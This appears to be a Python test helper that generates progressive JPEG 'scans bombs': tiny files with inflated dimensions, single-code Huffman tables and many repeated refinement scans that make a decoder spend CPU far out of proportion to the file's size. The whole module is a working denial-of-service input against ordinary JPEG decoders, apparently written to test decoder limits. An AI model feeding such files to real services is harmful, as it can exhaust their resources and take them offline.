"""JPEGs that cost a decoder much more than their size says."""

import io
import struct

from PIL import Image


def scans_bomb(width, height, scans):
    """A progressive grey JPEG of two ordinary scans and ``scans`` further ones, each of some ten bytes."""
    stream = io.BytesIO()
    Image.new("L", (64, 64), 128).save(stream, "JPEG", progressive=True)
    jpeg = bytearray(stream.getvalue())
    frame = jpeg.find(b"\xff\xc2")
    jpeg[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    head = bytes(jpeg[: jpeg.find(b"\xff\xda")])
    blocks = ((width + 7) // 8) * ((height + 7) // 8)
    runs = -(-blocks // ((1 << 15) - 1))  # one end-of-band run covers 32767 blocks
    ac = _packed("0" + "1" * 14, runs)
    first = [_scan(0, 0, 0, _packed("0", blocks)), _scan(1, 63, 1, ac)]
    return head + _tables() + b"".join(first) + _scan(1, 63, 0x10, ac) * scans + b"\xff\xd9"


def _tables():
    """Huffman tables of one code each: difference 0 for DC, a run of 2^14 and more blocks for AC."""
    one = b"\x01" + b"\0" * 15
    return b"\xff\xc4" + struct.pack(">H", 38) + b"\x00" + one + b"\x00" + b"\x10" + one + b"\xe0"


def _scan(low, high, approximation, data):
    return b"\xff\xda" + struct.pack(">HBBBBBB", 8, 1, 1, 0, low, high, approximation) + data


def _packed(code, count):
    bits = code * count
    bits += "1" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8, "big").replace(b"\xff", b"\xff\0")
